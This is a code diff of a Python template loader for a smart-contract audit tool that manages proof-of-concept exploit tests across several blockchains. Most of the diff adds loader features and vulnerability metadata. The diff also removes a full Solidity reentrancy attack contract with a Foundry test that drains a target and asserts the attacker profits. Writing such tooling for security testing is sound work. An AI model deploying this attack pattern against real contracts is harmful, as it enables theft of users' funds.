@@ -1,11 +1,44 @@
 """
 PoC template loader for exploit development.
 
-Provides Foundry test templates for common vulnerability classes.
+Provides Foundry test templates for common vulnerability classes, and
+loads the templates under each chain's namespace in `templates/`
+(`evm/*.sol`, `solana/*.rs`, `sui/*.move`, `aptos/*.move`, `cosmwasm/*.rs`;
+see chains.py) along with their structured front matter (see
+front_matter.py). Solidity files directly under `templates/` load as EVM
+templates. Each template is written for one test harness (see harness.py):
+Foundry for EVM, Anchor for Solana, `sui move test` and `aptos move test`
+for Move, cw-multi-test for CosmWasm. A sibling file with another
+harness's suffix (`solana/missing_signer.ts` next to `missing_signer.rs`)
+is the same template written for that harness, a render target sharing
+the template's metadata and placeholders.
+
+Firms keep private PoC libraries in their own template roots, laid out
+like `templates/` and merged into the built-in ones: the directories in
+config.yaml's ``knowledge.template_dirs``, then ``BASKERVILLE_TEMPLATE_DIRS``,
+then each ``--template-dir`` (see ``user_template_dirs``). Roots load in
+order, built-in first, then pinned bundles, then user roots. A template
+whose id is already taken replaces the earlier one, which it records in
+``shadows``, so the last root to define an id wins.
 """
 
+import os
+import re
 from pathlib import Path
-from dataclasses import dataclass
+from dataclasses import dataclass, field, replace
+from typing import Any
+
+from .chains import Chain
+from .class_loader import ClassLoader
+from .front_matter import FrontMatterError, normalize_front_matter, split_front_matter
+from .harness import HARNESSES, Harness, default_harness, parse_harness
+from .taxonomy import classify, filter_by_tags
+
+TEMPLATE_DIRS_ENV = "BASKERVILLE_TEMPLATE_DIRS"
+ORIGINS = ("builtin", "bundle", "user")
+
+# A section banner: a title between two comment rules of "=" signs
+_BANNER = re.compile(r"^(?://|#) ={20,}[ \t]*\n(?://|#) ([^\n]+)\n(?://|#) ={20,}[ \t]*$", re.M)
 
 
 @dataclass
@@ -18,21 +51,118 @@ class PoCTemplate:
     template: str
     placeholders: list[str]
     tags: list[str]
-    chain: str = "evm"
+    chain: Chain = Chain.EVM
+    taxonomy: list[str] = field(default_factory=list)  # Controlled tags, see taxonomy.py
+    vuln_class: str | None = None  # Chain-agnostic class id, see class_loader.py
+    severity: str | None = None
+    cwe: list[str] = field(default_factory=list)  # e.g. ["CWE-862"]
+    swc: list[str] = field(default_factory=list)  # e.g. ["SWC-107"]
+    context: dict[str, str] = field(default_factory=dict)  # Required context variable → description
+    references: list[str] = field(default_factory=list)
+    incidents: list[str] = field(default_factory=list)  # Real-world exploit ids, see incident_loader.py
+    path: str | None = None  # Template file, for templates loaded from disk
+    harness: Harness | None = None  # Test framework the PoC is for (default: the chain's)
+    remediation: str | None = None  # Fix guidance for findings the template matches
+    targets: dict[str, str] = field(default_factory=dict)  # Other harness id -> the body written for it
+    origin: str = "builtin"  # Which root it came from: builtin, bundle or user
+    shadows: list[str] = field(default_factory=list)  # Earlier templates of the same id it replaced
+
+    def __post_init__(self):
+        self.chain = Chain.parse(self.chain)
+        self.harness = parse_harness(self.harness, self.chain) if self.harness else default_harness(self.chain)
+        if not self.taxonomy:
+            self.taxonomy = classify(self.tags, [self.vulnerability_type, self.name], [self.description])
+
+    def metadata(self) -> dict[str, Any]:
+        """Everything but the template body."""
+        return {
+            "id": self.id, "name": self.name, "chain": self.chain.value, "vulnerability_type": self.vulnerability_type,
+            "class": self.vuln_class, "severity": self.severity, "cwe": self.cwe, "swc": self.swc,
+            "harness": self.harness.id, "targets": [self.harness.id, *self.targets],
+            "test_path": self.harness.test_path(self.id),
+            "description": self.description, "context": self.context or {p: "" for p in self.placeholders},
+            "placeholders": self.placeholders, "references": self.references, "incidents": self.incidents,
+            "tags": self.tags, "taxonomy": self.taxonomy, "remediation": self.remediation, "path": self.path,
+            "origin": self.origin, "shadows": self.shadows,
+        }
+
+    def for_target(self, harness: Harness | str) -> "PoCTemplate":
+        """This template as written for ``harness``; raises ValueError if it has no such target."""
+        from .render import parse_placeholders
+
+        harness = parse_harness(harness, self.chain)
+        if harness.id == self.harness.id:
+            return self
+        if harness.id not in self.targets:
+            raise ValueError(f"{self.id} has no {harness.id} target (available: "
+                             f"{', '.join([self.harness.id, *self.targets])})")
+        body = self.targets[harness.id]
+        return replace(self, template=body, placeholders=[p.name for p in parse_placeholders(body)],
+                       harness=harness, targets={})
+
+    def sections(self) -> dict[str, str]:
+        """Body split at its ``// ====`` banners (VULNERABLE CODE PATTERN, EXPLOIT TEST, FIX: ...), by title."""
+        parts = _BANNER.split(self.template)
+        return {title.strip(): text.strip("\n") for title, text in zip(parts[1::2], parts[2::2])}
+
+    def exploit_snippet(self) -> str:
+        """The exploit part of the template: its EXPLOIT section, else the whole body."""
+        for title, text in self.sections().items():
+            if title.upper().startswith("EXPLOIT"):
+                return text
+        return self.template.strip("\n")
+
+
+def user_template_dirs(cli_dirs: list[Path] | tuple = (), config: dict[str, Any] | None = None,
+                       project_dirs: list[Path] | tuple = ()) -> list[Path]:
+    """The user's template roots, lowest precedence first.
+
+    ``knowledge.template_dirs`` of ``config`` (config.yaml), then the
+    ``os.pathsep``-separated ``BASKERVILLE_TEMPLATE_DIRS``, then
+    ``project_dirs`` (the workspace's baskerville.toml), then ``cli_dirs``
+    (``--template-dir``). ``~`` is expanded; a directory listed twice keeps
+    its last position. Configured directories that do not exist are skipped
+    with a warning.
+    """
+    configured = ((config or {}).get("knowledge") or {}).get("template_dirs") or []
+    if isinstance(configured, str):
+        configured = [configured]
+    env = [d for d in os.environ.get(TEMPLATE_DIRS_ENV, "").split(os.pathsep) if d]
+    dirs: list[Path] = []
+    for value, given in [*((d, False) for d in [*configured, *env, *project_dirs]), *((d, True) for d in cli_dirs)]:
+        path = Path(os.path.expanduser(str(value))).resolve()
+        if not path.is_dir():
+            if given:
+                raise ValueError(f"template directory {value} does not exist")
+            print(f"[!] Skipping template directory {value}: not a directory")
+            continue
+        if path in dirs:
+            dirs.remove(path)
+        dirs.append(path)
+    return dirs
 
 
 class TemplateLoader:
     """Loads and provides PoC templates."""
 
-    def __init__(self, templates_dir: Path | None = None):
+    def __init__(self, templates_dir: Path | None = None, classes: ClassLoader | None = None,
+                 extra_dirs: list[Path] | None = None, user_dirs: list[Path] | None = None):
         """Initialize loader.
 
         Args:
             templates_dir: Path to templates directory
+            classes: Vulnerability classes the templates hang off
+            extra_dirs: More template directories (e.g. of pinned bundles), laid out like
+                ``templates_dir``; their templates replace built-in ones of the same id
+            user_dirs: The user's own template roots (see ``user_template_dirs``), loaded last;
+                a later root's templates replace earlier ones of the same id
         """
         if templates_dir is None:
             templates_dir = Path(__file__).parent / "templates"
         self.templates_dir = templates_dir
+        self.extra_dirs = [Path(d) for d in extra_dirs or []]
+        self.user_dirs = [Path(d) for d in user_dirs or []]
+        self.classes = classes or ClassLoader()
         self._templates: dict[str, PoCTemplate] = {}
         self._loaded = False
 
@@ -46,84 +176,109 @@ class TemplateLoader:
         # Built-in templates
         self._templates.update(self._get_builtin_templates())
 
-        # Load from directory if exists
-        if self.templates_dir.exists():
-            for sol_file in self.templates_dir.glob("*.sol"):
-                try:
-                    content = sol_file.read_text()
-                    # Parse metadata from comments
-                    template = self._parse_template_file(sol_file.stem, content)
-                    if template:
-                        self._templates[template.id] = template
-                except Exception as e:
-                    print(f"[!] Failed to load template {sol_file}: {e}")
-
-            # Load Solana templates (Rust files)
-            solana_dir = self.templates_dir / "solana"
-            if solana_dir.exists():
-                for rs_file in solana_dir.glob("*.rs"):
-                    try:
-                        content = rs_file.read_text()
-                        template = self._parse_template_file(rs_file.stem, content, chain="solana")
-                        if template:
-                            self._templates[template.id] = template
-                    except Exception as e:
-                        print(f"[!] Failed to load Solana template {rs_file}: {e}")
-
-            # Load Sui/Move templates
-            sui_dir = self.templates_dir / "sui"
-            if sui_dir.exists():
-                for move_file in sui_dir.glob("*.move"):
-                    try:
-                        content = move_file.read_text()
-                        template = self._parse_template_file(move_file.stem, content, chain="sui")
-                        if template:
-                            self._templates[template.id] = template
-                    except Exception as e:
-                        print(f"[!] Failed to load Sui template {move_file}: {e}")
+        roots = [(self.templates_dir, "builtin"), *((d, "bundle") for d in self.extra_dirs),
+                 *((d, "user") for d in self.user_dirs)]
+        for templates_dir, origin in roots:
+            if not templates_dir.exists():
+                continue
+            # Templates from before chains had their own namespace are EVM
+            self._load_dir(templates_dir, Chain.EVM, origin)
+            for chain in Chain:
+                self._load_dir(templates_dir / chain.value, chain, origin)
+
+        for template in self._templates.values():
+            if template.vuln_class and self.classes.get(template.vuln_class) is None:
+                print(f"[!] Template {template.id} declares unknown vulnerability class {template.vuln_class}")
+                template.vuln_class = None
+            vuln_class = None if template.vuln_class else self.classes.for_template(template.id)
+            if vuln_class:
+                template.vuln_class = vuln_class.id
 
         self._loaded = True
 
-    def _parse_template_file(self, name: str, content: str, chain: str = "evm") -> PoCTemplate | None:
+    def _load_dir(self, directory: Path, chain: Chain, origin: str = "builtin") -> None:
+        """Load the templates of one chain namespace."""
+        if not directory.is_dir():
+            return
+        for path in sorted(directory.glob(f"*{chain.template_suffix}")):
+            try:
+                template = self._parse_template_file(path.stem, path.read_text(), chain=chain)
+                if template:
+                    template.path = str(path)
+                    template.targets = self._load_targets(path, template)
+                    template.origin = origin
+                    earlier = self._templates.get(template.id)
+                    if earlier is not None:
+                        template.shadows = [*earlier.shadows, earlier.path or f"{earlier.origin}:{earlier.id}"]
+                    self._templates[template.id] = template
+            except Exception as e:
+                print(f"[!] Failed to load {chain.label} template {path}: {e}")
+
+    def _load_targets(self, path: Path, template: PoCTemplate) -> dict[str, str]:
+        """Bodies of ``path``'s siblings written for the chain's other harnesses, by harness id."""
+        targets = {}
+        for harness in HARNESSES.values():
+            sibling = path.with_suffix(harness.suffix)
+            if template.chain in harness.chains and sibling != path and sibling.is_file():
+                targets[harness.id] = sibling.read_text()
+        return targets
+
+    def _parse_template_file(self, name: str, content: str, chain: Chain | str = Chain.EVM) -> PoCTemplate | None:
         """Parse template from file content.
 
+        Metadata comes from the file's front matter when it has any, else
+        from the file name; the front matter is not part of the template.
+
         Args:
             name: Template name (typically the file stem)
             content: Template file content
-            chain: Chain identifier (e.g., "evm", "solana", "sui")
+            chain: Chain of the namespace the file is in (front matter may override it)
+
+        Raises:
+            FrontMatterError: If the front matter does not parse or has invalid fields
         """
-        # Look for metadata in leading comment block
-        vuln_type = name.replace("_", "-")
-        description = f"PoC template for {name}"
+        data, _, body = split_front_matter(content)
+        placeholders = self._extract_placeholders(body)
+        meta = normalize_front_matter(data, placeholders)
+        chain = Chain.parse(meta.get("chain", chain))
+        try:
+            harness = parse_harness(meta["harness"], chain) if "harness" in meta else None
+        except ValueError as e:
+            raise FrontMatterError(str(e)) from None
+        vuln_type = meta.get("vulnerability_type", name.replace("_", "-"))
 
         return PoCTemplate(
-            id=name,
-            name=name.replace("_", " ").title(),
+            id=meta.get("id", name),
+            name=meta.get("name", name.replace("_", " ").title()),
             vulnerability_type=vuln_type,
-            description=description,
-            template=content,
-            placeholders=self._extract_placeholders(content),
-            tags=[vuln_type, chain],
+            description=meta.get("description", f"PoC template for {name}"),
+            template=body,
+            placeholders=placeholders,
+            tags=list(dict.fromkeys([vuln_type, chain.value, *meta.get("tags", [])])),
             chain=chain,
+            vuln_class=meta.get("class"),
+            severity=meta.get("severity"),
+            cwe=meta.get("cwe", []),
+            swc=meta.get("swc", []),
+            context=meta.get("context", {}),
+            references=meta.get("references", []),
+            incidents=meta.get("incidents", []),
+            harness=harness,
+            remediation=meta.get("remediation"),
         )
 
     def _extract_placeholders(self, content: str) -> list[str]:
-        """Extract {{PLACEHOLDER}} patterns from template."""
-        import re
-        return list(set(re.findall(r'\{\{(\w+)\}\}', content)))
+        """Extract {{PLACEHOLDER}} patterns (with any default or filters) from template."""
+        from .render import TemplateError, parse_placeholders
+        try:
+            return [p.name for p in parse_placeholders(content)]
+        except TemplateError:
+            import re
+            return list(dict.fromkeys(re.findall(r'\{\{\s*(\w+)', content)))
 
     def _get_builtin_templates(self) -> dict[str, PoCTemplate]:
         """Get built-in templates."""
         return {
-            "reentrancy": PoCTemplate(
-                id="reentrancy",
-                name="Reentrancy Attack",
-                vulnerability_type="reentrancy",
-                description="Template for classic reentrancy attacks",
-                template=REENTRANCY_TEMPLATE,
-                placeholders=["TARGET_CONTRACT", "TARGET_FUNCTION", "ATTACK_AMOUNT"],
-                tags=["reentrancy", "CEI", "external-call"],
-            ),
             "flash_loan": PoCTemplate(
                 id="flash_loan",
                 name="Flash Loan Attack",
@@ -132,6 +287,8 @@ class TemplateLoader:
                 template=FLASH_LOAN_TEMPLATE,
                 placeholders=["TARGET_CONTRACT", "LOAN_TOKEN", "LOAN_AMOUNT"],
                 tags=["flash-loan", "aave", "manipulation"],
+                severity="high",
+                context={"LOAN_TOKEN": "Token borrowed from the Aave pool", "LOAN_AMOUNT": "Amount borrowed"},
             ),
             "oracle_manipulation": PoCTemplate(
                 id="oracle_manipulation",
@@ -141,6 +298,9 @@ class TemplateLoader:
                 template=ORACLE_MANIPULATION_TEMPLATE,
                 placeholders=["TARGET_CONTRACT", "POOL_ADDRESS", "MANIPULATION_AMOUNT"],
                 tags=["oracle", "price", "AMM", "manipulation"],
+                severity="high",
+                context={"POOL_ADDRESS": "AMM pair the target prices from",
+                         "MANIPULATION_AMOUNT": "Amount swapped to skew the reserves"},
             ),
             "inflation_attack": PoCTemplate(
                 id="inflation_attack",
@@ -150,6 +310,10 @@ class TemplateLoader:
                 template=INFLATION_ATTACK_TEMPLATE,
                 placeholders=["VAULT_ADDRESS", "ASSET_ADDRESS", "VICTIM_DEPOSIT"],
                 tags=["vault", "ERC4626", "inflation", "first-deposit"],
+                severity="high",
+                cwe=["CWE-682"],
+                context={"VAULT_ADDRESS": "ERC-4626 vault under test", "ASSET_ADDRESS": "The vault's asset",
+                         "VICTIM_DEPOSIT": "Amount the victim deposits after the donation"},
             ),
             "access_control": PoCTemplate(
                 id="access_control",
@@ -159,6 +323,12 @@ class TemplateLoader:
                 template=ACCESS_CONTROL_TEMPLATE,
                 placeholders=["TARGET_CONTRACT", "PROTECTED_FUNCTION"],
                 tags=["access-control", "authorization", "privilege"],
+                severity="high",
+                cwe=["CWE-284"],
+                swc=["SWC-105"],
+                context={"TARGET_CONTRACT": "Contract under test",
+                         "PROTECTED_FUNCTION": "Function only privileged callers should reach"},
+                references=["https://swcregistry.io/docs/SWC-105"],
             ),
             "dos_gas": PoCTemplate(
                 id="dos_gas",
@@ -168,6 +338,11 @@ class TemplateLoader:
                 template=DOS_GAS_TEMPLATE,
                 placeholders=["TARGET_CONTRACT", "TARGET_FUNCTION", "ARRAY_SIZE"],
                 tags=["dos", "gas", "loop", "array"],
+                severity="medium",
+                cwe=["CWE-400"],
+                swc=["SWC-128"],
+                context={"ARRAY_SIZE": "Length of the array passed to the target"},
+                references=["https://swcregistry.io/docs/SWC-128"],
             ),
         }
 
@@ -199,6 +374,19 @@ class TemplateLoader:
             any(vuln_lower in tag.lower() for tag in t.tags)
         ]
 
+    def get_by_class(self, class_id: str, chain: str | None = None) -> list[PoCTemplate]:
+        """Get templates for a vulnerability class, optionally only those for one chain."""
+        self._load()
+        return [
+            t for t in self._templates.values()
+            if t.vuln_class == class_id and (not chain or t.chain.lower() == chain.lower())
+        ]
+
+    def get_by_taxonomy(self, tags: list[str], match_all: bool = False) -> list[PoCTemplate]:
+        """Get templates carrying any (or all) of the given taxonomy tags."""
+        self._load()
+        return filter_by_tags(self._templates.values(), tags, match_all)
+
     def list_all(self) -> list[PoCTemplate]:
         """Get all available templates."""
         self._load()
@@ -221,96 +409,6 @@ class TemplateLoader:
 # Built-in Templates
 # ============================================================================
 
-REENTRANCY_TEMPLATE = '''// SPDX-License-Identifier: MIT
-pragma solidity ^0.8.0;
-
-import "forge-std/Test.sol";
-
-interface ITarget {
-    function deposit() external payable;
-    function withdraw() external;
-    function balanceOf(address) external view returns (uint256);
-}
-
-contract ReentrancyAttack {
-    ITarget public target;
-    address public owner;
-    uint256 public attackCount;
-
-    constructor(address _target) {
-        target = ITarget(_target);
-        owner = msg.sender;
-    }
-
-    function attack() external payable {
-        require(msg.value >= {{ATTACK_AMOUNT}}, "Need ETH");
-        target.deposit{value: msg.value}();
-        target.withdraw();
-    }
-
-    receive() external payable {
-        if (address(target).balance >= {{ATTACK_AMOUNT}} && attackCount < 10) {
-            attackCount++;
-            target.withdraw();
-        }
-    }
-
-    function withdraw() external {
-        require(msg.sender == owner);
-        payable(owner).transfer(address(this).balance);
-    }
-}
-
-contract ReentrancyPoCTest is Test {
-    ITarget target;
-    ReentrancyAttack attacker;
-
-    address victim = makeAddr("victim");
-    address attackerEOA = makeAddr("attacker");
-
-    function setUp() public {
-        // Deploy target contract
-        // target = ITarget(address(new {{TARGET_CONTRACT}}()));
-
-        // Fund victim
-        vm.deal(victim, 10 ether);
-        vm.prank(victim);
-        target.deposit{value: 10 ether}();
-
-        // Deploy attacker contract
-        vm.prank(attackerEOA);
-        attacker = new ReentrancyAttack(address(target));
-        vm.deal(attackerEOA, 1 ether);
-    }
-
-    function testReentrancyAttack() public {
-        uint256 targetBalanceBefore = address(target).balance;
-        uint256 attackerBalanceBefore = attackerEOA.balance;
-
-        console.log("Target balance before:", targetBalanceBefore);
-        console.log("Attacker balance before:", attackerBalanceBefore);
-
-        // Execute attack
-        vm.prank(attackerEOA);
-        attacker.attack{value: 1 ether}();
-
-        // Withdraw stolen funds
-        vm.prank(attackerEOA);
-        attacker.withdraw();
-
-        uint256 targetBalanceAfter = address(target).balance;
-        uint256 attackerBalanceAfter = attackerEOA.balance;
-
-        console.log("Target balance after:", targetBalanceAfter);
-        console.log("Attacker balance after:", attackerBalanceAfter);
-
-        // Attacker should have profited
-        assertGt(attackerBalanceAfter, attackerBalanceBefore, "Attack should be profitable");
-        assertLt(targetBalanceAfter, targetBalanceBefore, "Target should have lost funds");
-    }
-}
-'''
-
 FLASH_LOAN_TEMPLATE = '''// SPDX-License-Identifier: MIT
 pragma solidity ^0.8.0;
 